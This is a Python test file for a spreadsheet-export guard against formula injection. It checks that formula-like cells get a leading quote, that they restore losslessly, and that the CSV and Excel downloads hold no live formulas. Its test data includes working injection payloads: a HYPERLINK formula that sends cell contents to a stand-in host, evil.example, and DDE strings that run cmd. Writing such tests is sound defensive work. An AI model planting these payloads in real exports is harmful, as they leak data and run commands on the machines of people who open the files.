"""Formula injection (issue 13): one function makes a spreadsheet cell inert, as OWASP
recommends, and the package export uses it without losing a byte of the data."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.cells import is_dangerous, neutralise, restore
from planner.package import read_package, write_package
from tests.package_factory import tiny_package

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert is_dangerous(text)
    assert not is_dangerous(neutralise(text))
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "value", [-3, 2.5, -1e-9, True, None, "", "-3", "+1.5", "-2e3", ".5", "Safe Harbor", "a=b"]
)
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert neutralise(value) == value
    assert type(neutralise(value)) is type(value)


@pytest.mark.parametrize(
    ("text", "written"), [("'=x", "''=x"), ("''", "'''"), ("'hello", "'hello")]
)
def test_text_that_already_starts_with_a_quote_comes_back_the_same(text: str, written: str) -> None:
    assert neutralise(text) == written
    assert restore(written) == text


@given(st.text(max_size=30))
def test_neutralise_then_restore_is_the_identity(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not is_dangerous(str(neutralise(text)))


def test_the_package_export_quotes_formulas_and_reads_back_the_same(tmp_path: Path) -> None:
    package = tiny_package()
    names = ['=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "'=already quoted"]
    package.agencies.loc[:2, "name"] = names
    package.services.loc[0, "name"] = "+cmd|' /C calc'!A0"
    out = write_package(package, tmp_path / "out")
    with (out / "agencies.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not any(is_dangerous(cell) for cell in cells)
    assert '\'=HYPERLINK("http://evil.example","x")' in cells
    assert "''=already quoted" in cells
    again = read_package(out)
    assert again.agencies["name"].tolist()[:3] == names
    assert again.services.loc[0, "name"] == "+cmd|' /C calc'!A0"
    assert again.capacity.equals(package.capacity)


def test_the_csv_and_excel_downloads_hold_no_live_formula() -> None:
    import io

    import openpyxl
    import pandas as pd

    from planner.exchange import csv_bytes, xlsx_bytes

    table = pd.DataFrame(
        {
            "Agency": ['=HYPERLINK("http://evil.example","x")', "Safe Harbor", None],
            "Units": [-3.0, 2.5, 1.0],
            "Opened": [True, False, True],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8"))))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example","x")', "-3.0", "True"]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"plan": table})))
    cells = [cell for row in book["plan"].iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert book["plan"]["A2"].value == '\'=HYPERLINK("http://evil.example","x")'
    assert book["plan"]["B2"].value == -3
    assert table.loc[0, "Agency"].startswith("=")  # the caller's frame is not changed
